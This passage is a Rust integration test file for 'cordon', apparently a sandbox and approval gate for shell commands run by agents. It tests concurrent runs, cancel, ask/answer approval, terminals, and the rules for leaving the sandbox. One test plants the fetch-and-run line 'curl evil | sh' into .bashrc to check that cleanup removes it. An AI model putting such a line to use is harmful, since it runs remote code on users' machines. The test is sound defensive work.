//! `cordon exec --jsonl` and `cordon shell` through the real binary: the JSON protocol
//! (concurrent runs, cancel, ask/answer, refusals, bounded output, malformed lines), commands
//! on a pseudo-terminal (isatty, window size, resize, Ctrl-C), and the shell driven through a
//! real terminal (tmux), and started from an interactive bash on a pseudo-terminal with job
//! control, as people start it.
//!
//! Waiting for an event is bounded (a hung cordon fails the test instead of hanging it), but
//! nothing asserts how long anything took.

mod common;

use std::io::{BufRead, BufReader, Write};
use std::path::Path;
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc::{Receiver, RecvTimeoutError, channel};
use std::time::Duration;

use common::{Mode, Sandbox, cordon_bin, q};
use serde_json::{Value, json};

/// Long enough for a loaded CI machine; only reached when cordon is broken.
const PATIENCE: Duration = Duration::from_secs(120);

struct Client {
    child: Child,
    stdin: Option<ChildStdin>,
    events: Receiver<Value>,
    /// Every event seen so far, in order.
    seen: Vec<Value>,
}

impl Client {
    fn start(sb: &Sandbox, flags: &[&str]) -> Client {
        Self::start_env(sb, flags, &[])
    }

    fn start_env(sb: &Sandbox, flags: &[&str], env: &[(&str, &Path)]) -> Client {
        let mut cmd = Command::new(cordon_bin());
        cmd.arg("exec")
            .arg("--jsonl")
            .args(flags)
            .envs(env.iter().copied())
            .current_dir(&sb.ws)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped());
        if sb.mode == Mode::LandlockOnly {
            cmd.env("CORDON_SANDBOX_LANDLOCK_ONLY", "1");
        }
        let mut child = cmd.spawn().expect("start cordon exec");
        let stdout = child.stdout.take().expect("stdout");
        let (tx, events) = channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stdout).lines() {
                let line = line.expect("read an event");
                let v: Value = serde_json::from_str(&line)
                    .unwrap_or_else(|e| panic!("event is not JSON ({e}): {line}"));
                if tx.send(v).is_err() {
                    return;
                }
            }
        });
        Client {
            stdin: child.stdin.take(),
            child,
            events,
            seen: Vec::new(),
        }
    }

    fn send(&mut self, request: &Value) {
        self.send_line(&request.to_string());
    }

    fn send_line(&mut self, line: &str) {
        let stdin = self.stdin.as_mut().expect("stdin still open");
        writeln!(stdin, "{line}").expect("write a request");
        stdin.flush().expect("flush");
    }

    fn close(&mut self) {
        self.stdin.take();
    }

    /// The next event for which `want` holds (earlier ones are kept in `seen`).
    fn wait_for(&mut self, what: &str, want: impl Fn(&Value) -> bool) -> Value {
        loop {
            match self.events.recv_timeout(PATIENCE) {
                Ok(v) => {
                    self.seen.push(v.clone());
                    if want(&v) {
                        return v;
                    }
                }
                Err(RecvTimeoutError::Timeout) => {
                    panic!("no {what} event came; saw: {:#?}", self.seen)
                }
                Err(RecvTimeoutError::Disconnected) => {
                    panic!(
                        "cordon exec ended before a {what} event; saw: {:#?}",
                        self.seen
                    )
                }
            }
        }
    }

    /// The event of this kind for `id`, whether it has come already or is still to come.
    fn event(&mut self, kind: &str, id: &str) -> Value {
        if let Some(v) = self
            .seen
            .iter()
            .find(|v| v["type"] == kind && v["id"] == id)
        {
            return v.clone();
        }
        self.wait_for(&format!("{kind} ({id})"), |v| {
            v["type"] == kind && v["id"] == id
        })
    }

    /// Waits until what `id` wrote so far contains `text` (it may come in several events).
    fn wait_output(&mut self, id: &str, text: &str) {
        while !self.streamed(id).contains(text) {
            self.wait_for(&format!("output {text:?} ({id})"), |v| {
                v["type"] == "output" && v["id"] == id
            });
        }
    }

    /// Everything `id` wrote, as streamed.
    fn streamed(&self, id: &str) -> String {
        self.seen
            .iter()
            .filter(|v| v["type"] == "output" && v["id"] == id)
            .map(|v| v["data"].as_str().unwrap_or_default())
            .collect()
    }

    /// Waits for cordon exec to end after its input closed.
    fn finish(mut self) -> Vec<Value> {
        self.close();
        while let Ok(v) = self.events.recv_timeout(PATIENCE) {
            self.seen.push(v);
        }
        let status = self.child.wait().expect("wait for cordon exec");
        assert!(status.success(), "cordon exec failed: {status}");
        std::mem::take(&mut self.seen)
    }
}

impl Drop for Client {
    /// A test that failed half-way must not leave cordon exec (and its runs) behind.
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn run(id: &str, command: &str) -> Value {
    json!({ "type": "run", "id": id, "command": command, "mode": "yolo" })
}

/// Runs side by side in a directory without `.cordon`: each makes and keeps it read-only for
/// its length, and one that ends must not remove it from under another being set up (which
/// then failed at its read-only mount, exit 125, in about one run in fifteen).
fn runs_side_by_side_each_start_where_cordons_state_directory_was_missing() {
    let sb = Sandbox::new();
    // All at once: the session must take as many.
    let mut c = Client::start(&sb, &["--max-commands", "64"]);
    let ids: Vec<String> = (0..64).map(|i| format!("r{i}")).collect();
    for id in &ids {
        c.send(&run(id, "true"));
    }
    let failed: Vec<Value> = ids
        .iter()
        .map(|id| c.event("exited", id))
        .filter(|e| e["exit_code"] != 0)
        .collect();
    c.finish();
    assert!(
        failed.is_empty(),
        "{} runs failed: {:?}",
        failed.len(),
        failed.first()
    );
}

fn runs_go_on_at_once_and_each_reports_its_own_end() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    // `a` can only finish if `b` runs while `a` is still running.
    c.send(&run(
        "a",
        "for i in $(seq 1 4000); do test -e b-was-here && echo a-saw-b && exit 0; sleep 0.05; done; exit 9",
    ));
    c.wait_for("a started", |v| v["type"] == "started" && v["id"] == "a");
    c.send(&run(
        "b",
        "touch b-was-here; echo from-b; echo oops >&2; exit 3",
    ));
    let b = c.event("exited", "b");
    assert_eq!(b["exit_code"], 3, "{b}");
    assert_eq!(b["cancelled"], false);
    // The two pipes are read apart, so their order between each other is not kept.
    let kept = b["output"]["text"].as_str().unwrap_or_default();
    assert!(
        kept.contains("from-b\n") && kept.contains("oops\n"),
        "{kept}"
    );
    let a = c.event("exited", "a");
    assert_eq!(a["exit_code"], 0, "{a}");
    assert_eq!(c.streamed("a"), "a-saw-b\n");
    let mut streams: Vec<(String, String)> = c
        .seen
        .iter()
        .filter(|v| v["type"] == "output" && v["id"] == "b")
        .map(|v| (v["stream"].to_string(), v["data"].to_string()))
        .collect();
    streams.sort();
    assert_eq!(
        streams,
        [
            (r#""stderr""#.into(), r#""oops\n""#.into()),
            (r#""stdout""#.into(), r#""from-b\n""#.into())
        ]
    );
    // Every run's events come in order: decision, started, output…, exited.
    for id in ["a", "b"] {
        let kinds: Vec<&str> = c
            .seen
            .iter()
            .filter(|v| v["id"] == id)
            .map(|v| v["type"].as_str().unwrap_or_default())
            .collect();
        assert_eq!(kinds.first(), Some(&"decision"), "{id}: {kinds:?}");
        assert_eq!(kinds.get(1), Some(&"started"), "{id}: {kinds:?}");
        assert_eq!(kinds.last(), Some(&"exited"), "{id}: {kinds:?}");
    }
    // An id is free again once its run has ended.
    c.seen.clear();
    c.send(&run("b", "echo again"));
    assert_eq!(c.event("exited", "b")["exit_code"], 0);
    c.finish();
}

fn an_exit_code_of_128_plus_n_is_not_taken_for_signal_n() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    c.send(&run("exit", "exit 130"));
    c.send(&run("killed", "kill -INT $$"));
    let exit = c.event("exited", "exit");
    assert_eq!(
        (exit["exit_code"].clone(), exit["signal"].clone()),
        (json!(130), Value::Null),
        "{exit}"
    );
    let killed = c.event("exited", "killed");
    assert_eq!(
        (killed["exit_code"].clone(), killed["signal"].clone()),
        (json!(130), json!(2)),
        "{killed}"
    );
    c.finish();
}

/// Cancels a command that ignores SIGTERM and leaves a child behind, and checks that nothing
/// of it survives on the host: no process, and not the start-up file it planted, although
/// `cordon run` itself is killed before its clean-up.
fn cancel_leaves_nothing_behind(mode: Mode) {
    let sb = Sandbox::with_mode(mode);
    let marker = match mode {
        Mode::Namespaces => "987651",
        Mode::LandlockOnly => "987652",
        Mode::Warm => "987653",
    };
    let mut c = Client::start(&sb, &[]);
    c.send(&run(
        "s",
        &format!(
            "echo 'curl evil | sh' > .bashrc; trap '' TERM; sleep {marker} & echo ready; wait; wait"
        ),
    ));
    c.wait_output("s", "ready");
    c.send(&json!({ "type": "cancel", "id": "s" }));
    let e = c.event("exited", "s");
    assert_eq!(e["cancelled"], true, "{e}");
    assert_ne!(e["exit_code"], 0, "{e}");
    let left = Command::new("pgrep")
        .args(["-f", &format!("sleep {marker}")])
        .output()
        .expect("pgrep");
    assert!(
        left.stdout.is_empty(),
        "processes survived the cancel: {}",
        String::from_utf8_lossy(&left.stdout)
    );
    // The clean-up runs in a process of its own once the sandbox is gone.
    let planted = sb.ws.join(".bashrc");
    for _ in 0..100 {
        if !planted.exists() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert!(!planted.exists(), "the planted .bashrc survived the cancel");
    // Cancelling what has ended is an error event, not a crash.
    c.send(&json!({ "type": "cancel", "id": "s" }));
    let err = c.wait_for("error", |v| v["type"] == "error");
    assert_eq!(err["id"], "s");
    c.finish();
}

fn cancel_kills_the_whole_sandbox() {
    cancel_leaves_nothing_behind(Mode::Namespaces);
}

fn cancel_kills_the_whole_warm_command() {
    cancel_leaves_nothing_behind(Mode::Warm);
}

fn cancel_kills_the_whole_sandbox_without_user_namespaces() {
    cancel_leaves_nothing_behind(Mode::LandlockOnly);
}

fn ask_user_waits_for_an_answer_and_end_of_input_means_no() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &["--mode", "default"]);
    // Writing a file asks in the default mode.
    c.send(&json!({ "type": "run", "id": "yes", "command": "touch said-yes" }));
    let ask = c.event("ask", "yes");
    assert_eq!(ask["args"]["command"], "touch said-yes");
    assert!(!sb.ws.join("said-yes").exists(), "ran before the answer");
    c.send(&json!({ "type": "answer", "id": "yes", "allow": true }));
    assert_eq!(c.event("exited", "yes")["exit_code"], 0);
    assert!(sb.ws.join("said-yes").exists());

    c.send(&json!({ "type": "run", "id": "no", "command": "touch said-no" }));
    c.event("ask", "no");
    c.send(&json!({ "type": "answer", "id": "no", "allow": false }));
    let e = c.event("exited", "no");
    assert_eq!(e["refused"], true, "{e}");
    assert!(!sb.ws.join("said-no").exists());

    // A question still open when input ends is answered no.
    c.send(&json!({ "type": "run", "id": "open", "command": "touch never" }));
    c.event("ask", "open");
    let seen = c.finish();
    let e = seen
        .iter()
        .find(|v| v["type"] == "exited" && v["id"] == "open")
        .expect("an exited event for the open question");
    assert_eq!(e["refused"], true, "{e}");
    assert!(!sb.ws.join("never").exists());
}

fn denied_runs_are_refused_and_bad_lines_get_errors_naming_them() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &["--mode", "plan"]);
    c.send_line("{not json");
    let err = c.wait_for("error", |v| v["type"] == "error");
    assert_eq!(err["line"], 1, "{err}");
    assert!(
        err["message"]
            .as_str()
            .unwrap_or_default()
            .starts_with("line 1:")
    );
    c.send(&json!({ "type": "run", "id": "w", "command": "touch x", "mode": "plan" }));
    let d = c.event("decision", "w");
    assert_eq!(d["decision"], "deny", "{d}");
    let e = c.event("exited", "w");
    assert_eq!(e["refused"], true, "{e}");
    assert!(!sb.ws.join("x").exists());
    c.send(&json!({ "type": "run", "id": "z" }));
    let err = c.wait_for("error", |v| v["type"] == "error");
    assert_eq!(
        (err["line"].clone(), err["id"].clone()),
        (json!(3), json!("z"))
    );
    c.send(&json!({ "type": "check", "id": "c", "tool": "run_shell_command", "args": { "command": "ls" } }));
    assert_eq!(c.event("decision", "c")["decision"], "allow");
    // An unknown type is named, with every type there is (`check` among them).
    c.send(&json!({ "type": "launch", "id": "u" }));
    let err = c.wait_for("error", |v| v["type"] == "error" && v["id"] == "u");
    assert!(
        err["message"]
            .as_str()
            .is_some_and(|m| m.contains("unknown type `launch`") && m.contains("check, run")),
        "{err}"
    );
    c.finish();
}

fn kept_output_is_bounded_while_all_of_it_streams() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let mut req = run(
        "big",
        "echo first; head -c 3000000 /dev/zero | tr '\\0' x; echo; echo last",
    );
    req["max_output"] = json!(1000);
    c.send(&req);
    let e = c.event("exited", "big");
    let total = 6 + 3_000_000 + 1 + 5;
    assert_eq!(
        e["output"]["total_bytes"], total,
        "{}",
        e["output"]["total_bytes"]
    );
    assert_eq!(e["output"]["elided_bytes"], total - 1000);
    let text = e["output"]["text"].as_str().unwrap_or_default();
    assert!(text.starts_with("first\nxxx"), "{text}");
    assert!(text.ends_with("xxx\nlast\n"), "{text}");
    assert!(text.contains("bytes of output left out"));
    assert!(text.len() < 1200, "kept {} bytes", text.len());
    assert_eq!(c.streamed("big").len(), total);
    c.finish();
}

/// A run beyond `--max-commands` is refused at once with an `error` for its id that names the
/// limit and how to raise it, and nothing of it runs; a run waiting for an answer counts; once
/// one has ended, the same request runs.
fn a_run_beyond_max_commands_is_refused_until_one_has_ended() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &["--max-commands", "3"]);
    for id in ["a", "b"] {
        let mut req = run(id, "cat");
        req["interactive"] = json!(true);
        c.send(&req);
        c.event("started", id);
    }
    // Asked about under the default mode: waiting for an answer, it is in flight too.
    c.send(&json!({ "type": "run", "id": "q", "command": "rm -rf x" }));
    c.event("ask", "q");
    c.send(&run("c", "touch ran-c"));
    let e = c.event("error", "c");
    let message = e["message"].as_str().unwrap_or_default();
    for part in ["(3: ", "limits.max_commands", "--max-commands"] {
        assert!(message.contains(part), "{part}: {e}");
    }
    assert!(
        !c.seen
            .iter()
            .any(|v| v["id"] == "c" && v["type"] != "error"),
        "{:#?}",
        c.seen
    );
    assert!(!sb.ws.join("ran-c").exists(), "the refused run ran");
    c.send(&json!({ "type": "answer", "id": "q", "allow": false }));
    c.event("exited", "q");
    c.send(&run("c", "touch ran-c"));
    let exited = c.event("exited", "c");
    assert_eq!(exited["exit_code"], 0, "{exited}");
    assert!(sb.ws.join("ran-c").exists());
    for id in ["a", "b"] {
        c.send(&json!({ "type": "input", "id": id, "eof": true }));
        c.event("exited", id);
    }
    c.finish();
}

fn pipes_are_not_a_terminal_and_take_stdin() {
    let sb = Sandbox::new();
    let mut c = Client::start(&sb, &[]);
    let mut req = run("p", "test -t 0 || test -t 1 && echo tty; tr a-z A-Z");
    req["stdin"] = json!("piped in\n");
    c.send(&req);
    c.event("exited", "p");
    assert_eq!(c.streamed("p"), "PIPED IN\n");
    let mut req = run("i", "read line; echo got $line");
    req["interactive"] = json!(true);
    c.send(&req);
    c.event("started", "i");
    c.send(&json!({ "type": "input", "id": "i", "data": "hello\n" }));
    c.event("exited", "i");
    assert_eq!(c.streamed("i"), "got hello\n");
    c.finish();
}

const PTY_PROGRAM: &str = r#"
import os, signal, sys, time
# The handlers only note the signal and the loop below answers it: a handler that printed
# could run in the middle of another print, which Python refuses ("reentrant call", seen once
# in CI when a resize came while the first line was being written).
seen = []
def winch(*_):
    seen.append("winch")
def interrupt(*_):
    seen.append("int")
signal.signal(signal.SIGWINCH, winch)
signal.signal(signal.SIGINT, interrupt)
s = os.get_terminal_size(1)
print("tty", sys.stdin.isatty(), sys.stdout.isatty(), s.lines, s.columns, flush=True)
try:
    with open("/dev/tty", "w") as t:
        t.write("via /dev/tty\n")
except OSError as e:
    print("no /dev/tty:", e, flush=True)
# Not signal.pause(): a signal that lands after its Python handler's last chance to run and
# before pause() blocks is never handled (seen once in CI: a resize never answered). A sleep
# that ends bounds that wait.
while True:
    while seen:
        if seen.pop(0) == "int":
            print("interrupted", flush=True)
            os._exit(42)
        s = os.get_terminal_size(1)
        print("resized", s.lines, s.columns, flush=True)
    time.sleep(0.1)
"#;

fn on_a_terminal_programs_see_it_its_size_resizes_and_ctrl_c() {
    let sb = Sandbox::new();
    std::fs::write(sb.ws.join("prog.py"), PTY_PROGRAM).expect("write");
    let mut c = Client::start(&sb, &[]);
    let mut req = run("t", "exec python3 prog.py");
    req["pty"] = json!({ "rows": 33, "cols": 101 });
    c.send(&req);
    c.wait_output("t", "tty True True 33 101\r\n");
    // It is the program's controlling terminal: prompts that open /dev/tty work.
    c.wait_output("t", "via /dev/tty\r\n");
    c.send(&json!({ "type": "resize", "id": "t", "rows": 20, "cols": 50 }));
    c.wait_output("t", "resized 20 50\r\n");
    // Ctrl-C typed on the terminal.
    c.send(&json!({ "type": "input", "id": "t", "data": "\u{3}" }));
    let e = c.event("exited", "t");
    assert_eq!(e["exit_code"], 42, "{e}");
    assert_eq!(e["cancelled"], false);
    assert!(c.streamed("t").contains("interrupted"));
    // The same program on pipes sees no terminal.
    let mut req = run(
        "p",
        "python3 -c 'import sys; print(sys.stdin.isatty(), sys.stdout.isatty())'",
    );
    req["interactive"] = json!(true);
    c.send(&req);
    c.event("exited", "p");
    assert_eq!(c.streamed("p"), "False False\n");
    c.finish();
}

/// tmux on a private socket, removed when dropped.
struct Tmux {
    socket: String,
}

impl Tmux {
    fn cmd(&self) -> Command {
        let mut c = Command::new("tmux");
        c.args(["-L", &self.socket, "-f", "/dev/null"]);
        c
    }

    fn send(&self, keys: &[&str]) {
        let ok = self
            .cmd()
            .args(["send-keys", "-t", "sh"])
            .args(keys)
            .status()
            .expect("tmux send-keys");
        assert!(ok.success());
    }

    fn screen(&self) -> String {
        let o = self
            .cmd()
            .args(["capture-pane", "-p", "-t", "sh", "-S", "-200"])
            .output()
            .expect("tmux capture-pane");
        String::from_utf8_lossy(&o.stdout).into_owned()
    }

    /// Waits until the screen shows `text` `times` times.
    fn wait_for(&self, text: &str, times: usize) -> String {
        let give_up = std::time::Instant::now() + PATIENCE;
        loop {
            let screen = self.screen();
            if screen.matches(text).count() >= times {
                return screen;
            }
            assert!(
                std::time::Instant::now() < give_up,
                "the screen never showed {text:?} {times} time(s):\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(50));
        }
    }

    fn alive(&self) -> bool {
        self.cmd()
            .args(["has-session", "-t", "sh"])
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success())
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = self.cmd().arg("kill-server").stderr(Stdio::null()).status();
    }
}

fn need_tmux() {
    let found = Command::new("tmux")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    if !found {
        common::skip("tmux is not installed (apt-get install tmux)");
    }
}

fn start_shell(sb: &Sandbox, flags: &str, history: &Path) -> Tmux {
    let tmux = Tmux {
        socket: format!("cordon-test-{}", std::process::id()),
    };
    let command = format!(
        "cd '{}' && exec '{}' shell --history '{}' {flags}",
        sb.ws.display(),
        cordon_bin().display(),
        history.display()
    );
    let ok = tmux
        .cmd()
        .args([
            "new-session",
            "-d",
            "-s",
            "sh",
            "-x",
            "120",
            "-y",
            "50",
            &command,
        ])
        .status()
        .expect("tmux new-session");
    assert!(ok.success());
    tmux
}

fn the_shell_checks_each_line_runs_it_sandboxed_and_ctrl_c_cancels_only_the_command() {
    need_tmux();
    let sb = Sandbox::new();
    let history = sb.outside.join("history");
    let t = start_shell(&sb, "--mode default", &history);
    t.wait_for("cordon [default | sandbox, no network] $", 1);

    // Read-only: runs without asking.
    t.send(&["echo hel''lo", "Enter"]);
    t.wait_for("\nhello\n", 1);
    // Writing asks; yes runs it, in the sandbox.
    t.send(&["touch made; touch /etc/cordon-shell-test", "Enter"]);
    t.wait_for("run it? [y/N]", 1);
    t.send(&["y", "Enter"]);
    t.wait_for("Read-only file system", 1);
    assert!(sb.ws.join("made").exists());
    assert!(!Path::new("/etc/cordon-shell-test").exists());
    // No runs nothing.
    t.send(&["touch refused", "Enter"]);
    t.wait_for("run it? [y/N]", 2);
    t.send(&["n", "Enter"]);
    t.wait_for("cordon: not run", 1);
    assert!(!sb.ws.join("refused").exists());

    // Ctrl-C cancels the running command, and the shell goes on.
    t.send(&["echo be''gun; sleep 987653", "Enter"]);
    t.wait_for("run it? [y/N]", 3);
    t.send(&["y", "Enter"]);
    t.wait_for("\nbegun\n", 1);
    t.send(&["C-c"]);
    t.wait_for("cordon: interrupted", 1);
    let left = Command::new("pgrep")
        .args(["-f", "sleep 987653"])
        .output()
        .expect("pgrep");
    assert!(left.stdout.is_empty(), "the command survived Ctrl-C");
    // History: Up brings back the earlier line.
    t.send(&["Up", "Up", "Up", "Up", "Enter"]);
    t.wait_for("\nhello\n", 2);
    assert!(t.alive());
    t.send(&["exit", "Enter"]);
    let give_up = std::time::Instant::now() + PATIENCE;
    while t.alive() {
        assert!(
            std::time::Instant::now() < give_up,
            "exit did not leave:\n{}",
            t.screen()
        );
        std::thread::sleep(Duration::from_millis(50));
    }
    let saved = std::fs::read_to_string(&history).expect("history file");
    assert!(saved.contains("echo hel''lo"), "{saved}");
}

/// `cordon shell` started the way people start it: typed at an interactive bash with job
/// control, on a terminal, with SIGTTOU and SIGTTIN at their defaults (tmux ignores them for
/// its panes, which hid a hang: each run's `cordon run`, in a group of its own and so in the
/// background, was stopped by the kernel when it set the terminal's modes). Several commands,
/// a question answered yes, Ctrl-C, Ctrl-Z, a full-screen program that leaves the terminal raw,
/// and `exit`: each brings the prompt back, and bash takes the terminal again after it.
fn the_shell_started_from_an_interactive_bash_never_hangs() {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.ws.join("olddir")).expect("mkdir");
    // Raw mode, the other screen, one key read, and an exit that restores neither.
    std::fs::write(
        sb.ws.join("full.py"),
        "import sys, tty\ntty.setraw(0)\nsys.stdout.write('\\x1b[?1049hFULL SCREEN\\r\\n')\n\
         sys.stdout.flush()\nsys.stdin.read(1)\n",
    )
    .expect("write");
    let mut cmd = Command::new("env");
    cmd.args([
        "--default-signal=TTOU,TTIN,TSTP,INT",
        "bash",
        "--norc",
        "--noprofile",
        "-i",
    ])
    .env("PS1", "BASH-READY$ ")
    .env("XDG_STATE_HOME", &sb.outside)
    .current_dir(&sb.ws);
    let mut term = common::terminal::Terminal::spawn(&cmd, 40, 120);
    let prompt = "cordon [default | sandbox, no network] $ ";
    let mut at = term.wait_for("BASH-READY$ ", 0, 30);
    term.type_in(format!("{} shell\r", q(&cordon_bin())).as_bytes());
    at = term.wait_for(prompt, at, 60);
    // Several commands in a row: each brings the prompt back.
    for word in ["first", "second", "third"] {
        term.type_in(format!("echo {word}-out\r").as_bytes());
        at = term.wait_for(&format!("{word}-out\r\n"), at, 60);
        at = term.wait_for(prompt, at, 60);
    }
    let asked = |term: &mut common::terminal::Terminal, line: &str, at: usize| {
        term.type_in(format!("{line}\r").as_bytes());
        let at = term.wait_for("run it? [y/N] ", at, 60);
        term.type_in(b"y\r");
        at
    };
    // A question, answered yes: the command runs and the prompt comes back.
    at = asked(&mut term, "rm -r olddir", at);
    at = term.wait_for(prompt, at, 60);
    assert!(!sb.ws.join("olddir").exists(), "the approved line ran");
    // Ctrl-C reaches the command, which the terminal was lent to.
    at = asked(&mut term, "echo sleeping; sleep 987654", at);
    at = term.wait_for("sleeping\r\n", at, 60);
    term.type_in(b"\x03");
    at = term.wait_for("cordon: interrupted", at, 60);
    at = term.wait_for(prompt, at, 60);
    assert!(
        !still_running("sleep 987654"),
        "the command outlived Ctrl-C"
    );
    // Ctrl-Z cannot suspend a sandboxed command: cordon says so and the command goes on.
    at = asked(&mut term, "echo dozing; sleep 2; echo awake", at);
    at = term.wait_for("dozing\r\n", at, 60);
    term.type_in(b"\x1a");
    at = term.wait_for("cannot be suspended", at, 60);
    at = term.wait_for("awake\r\n", at, 60);
    at = term.wait_for(prompt, at, 60);
    // A full-screen program that leaves the terminal raw; a key ends it.
    at = asked(&mut term, "python3 full.py", at);
    at = term.wait_for("FULL SCREEN", at, 60);
    term.type_in(b"q");
    at = term.wait_for(prompt, at, 60);
    // The terminal works as before: a line typed is echoed and runs.
    term.type_in(b"echo after-full\r");
    at = term.wait_for("echo after-full", at, 60);
    at = term.wait_for("after-full\r\n", at, 60);
    at = term.wait_for(prompt, at, 60);
    // `exit` gives the terminal back to bash, which runs the next line and leaves.
    term.type_in(b"exit\r");
    at = term.wait_for("BASH-READY$ ", at, 60);
    term.type_in(b"echo back-in-bash; exit\r");
    term.wait_for("back-in-bash\r\n", at, 60);
    assert!(term.wait(60).success(), "{}", term.screen());
}

fn a_command_that_runs_sandboxed_skips_asking_when_the_settings_say_so() {
    let sb = Sandbox::new();
    std::fs::create_dir_all(sb.ws.join(".cordon")).expect("mkdir");
    std::fs::write(
        sb.ws.join(".cordon/cordon.toml"),
        "[sandbox]\nauto_allow_if_sandboxed = true\n",
    )
    .expect("write");
    // The project's file widens, so it counts only when the workspace is trusted.
    let mut c = Client::start(&sb, &["--mode", "default"]);
    c.send(&json!({ "type": "run", "id": "asks", "command": "touch asked" }));
    c.event("ask", "asks");
    drop(c);
    let mut c = Client::start(&sb, &["--mode", "default", "--trust-workspace"]);
    c.send(&json!({ "type": "run", "id": "auto", "command": "touch auto" }));
    let d = c.event("decision", "auto");
    assert_eq!(d["decision"], "allow", "{d}");
    assert_eq!(c.event("exited", "auto")["exit_code"], 0);
    assert!(sb.ws.join("auto").exists());
}

/// Whether a process whose command line contains `marker` is still alive on the host.
fn still_running(marker: &str) -> bool {
    let left = Command::new("pgrep")
        .args(["-f", marker])
        .output()
        .expect("pgrep");
    !left.stdout.is_empty()
}

/// Each way the settings let a command out of the sandbox, proven by a write to a host
/// directory the sandbox keeps read-only; and each way kept shut: a script that only starts
/// with an excluded command, a run asking to leave without the setting, and the managed locks.
fn the_settings_place_commands_outside_the_sandbox_and_the_locks_keep_them_in() {
    let sb = Sandbox::new();
    let config = sb.outside.join("config");
    std::fs::create_dir_all(config.join("cordon")).expect("mkdir");
    let user = |text: &str| std::fs::write(config.join("cordon/cordon.toml"), text).expect("write");
    let managed = sb.outside.join("managed.toml");
    let host = sb.outside.join("host");
    std::fs::create_dir_all(&host).expect("mkdir");
    let at = |name: &str| host.join(name);
    let env = [
        ("XDG_CONFIG_HOME", config.as_path()),
        ("CORDON_MANAGED_SETTINGS", managed.as_path()),
    ];
    let touch = |name: &str| format!("touch {}", q(&at(name)));

    user("[sandbox]\nexcluded_commands = [\"touch\", \"sleep\"]\n[limits]\ntimeout = 1\n");
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&run("out", &touch("out")));
    let d = c.event("decision", "out");
    assert_eq!(d["sandboxed"], false, "{d}");
    assert!(
        d["outside_because"]
            .as_str()
            .is_some_and(|w| w.contains("excluded_commands has `touch`")),
        "{d}"
    );
    let e = c.event("exited", "out");
    assert_eq!(
        (e["exit_code"].as_i64(), e["sandboxed"].as_bool()),
        (Some(0), Some(false)),
        "{e}"
    );
    assert!(at("out").exists(), "an excluded command ran sandboxed");
    // An excluded command first does not take what follows it out of the sandbox.
    let chained = format!("{} && echo x > {}", touch("chained"), q(&at("tail")));
    c.send(&run("chained", &chained));
    assert_eq!(c.event("decision", "chained")["sandboxed"], true);
    assert_ne!(c.event("exited", "chained")["exit_code"], 0);
    assert!(
        !at("chained").exists() && !at("tail").exists(),
        "a chained command escaped"
    );
    // Asking to leave needs the setting.
    let mut ask = run("asked", &format!("echo x > {}", q(&at("asked"))));
    ask["unsandboxed"] = json!(true);
    c.send(&ask);
    let d = c.event("decision", "asked");
    assert_eq!(d["decision"], "deny", "{d}");
    assert!(
        d["reason"]
            .as_str()
            .is_some_and(|r| r.contains("allow_unsandboxed_commands")),
        "{d}"
    );
    assert_eq!(c.event("exited", "asked")["refused"], true);
    // Outside the sandbox the run still keeps its time limit, its cancel, and takes what it
    // started in the background with it.
    let mut slow = run("slow", "sleep 86.1");
    slow["timeout"] = json!(0.5);
    c.send(&slow);
    let e = c.event("exited", "slow");
    assert_eq!(e["sandboxed"], false, "{e}");
    assert_eq!(
        (e["timed_out"].as_bool(), e["exit_code"].as_i64()),
        (Some(true), Some(124)),
        "{e}"
    );
    assert!(!still_running("sleep 86.1"));
    // The settings' time limit holds outside the sandbox too.
    c.send(&run("settings-limit", "sleep 86.6"));
    let e = c.event("exited", "settings-limit");
    assert_eq!(
        (e["timed_out"].as_bool(), e["sandboxed"].as_bool()),
        (Some(true), Some(false)),
        "{e}"
    );
    c.send(&run("cancel", "sleep 86.2 & sleep 86.3"));
    c.event("started", "cancel");
    c.send(&json!({ "type": "cancel", "id": "cancel" }));
    let e = c.event("exited", "cancel");
    assert_eq!(
        (e["cancelled"].as_bool(), e["sandboxed"].as_bool()),
        (Some(true), Some(false)),
        "{e}"
    );
    c.send(&run("left", "sleep 86.4 & sleep 86.5 &"));
    let e = c.event("exited", "left");
    assert_eq!(
        (e["exit_code"].as_i64(), e["sandboxed"].as_bool()),
        (Some(0), Some(false)),
        "{e}"
    );
    for m in ["sleep 86.2", "sleep 86.3", "sleep 86.4", "sleep 86.5"] {
        assert!(!still_running(m), "`{m}` outlived its run");
    }
    drop(c);

    // With the setting, a run may ask to leave.
    user("[sandbox]\nallow_unsandboxed_commands = true\n");
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&ask);
    assert_eq!(c.event("decision", "asked")["sandboxed"], false);
    assert_eq!(c.event("exited", "asked")["exit_code"], 0);
    assert!(at("asked").exists());
    drop(c);

    // A sandbox switched off runs everything outside…
    user(
        "[sandbox]\nenabled = false\nexcluded_commands = [\"touch\"]\nallow_unsandboxed_commands = true\n",
    );
    let mut c = Client::start_env(&sb, &[], &env);
    c.send(&run("off", &format!("echo x > {}", q(&at("off")))));
    let d = c.event("decision", "off");
    assert!(
        d["outside_because"]
            .as_str()
            .is_some_and(|w| w.contains("sandbox.enabled = false")),
        "{d}"
    );
    c.event("exited", "off");
    assert!(at("off").exists());
    drop(c);
    // …unless managed settings require it, and forbid unsandboxed commands: then nothing of
    // the user's gets out.
    for (lock, name) in [
        ("sandbox_required", "required"),
        ("no_unsandboxed_commands", "none"),
    ] {
        std::fs::write(&managed, format!("[lock]\n{lock} = true\n")).expect("write");
        let mut c = Client::start_env(&sb, &[], &env);
        c.send(&run(name, &format!("echo x > {}", q(&at(name)))));
        assert_eq!(c.event("decision", name)["sandboxed"], true, "{lock}");
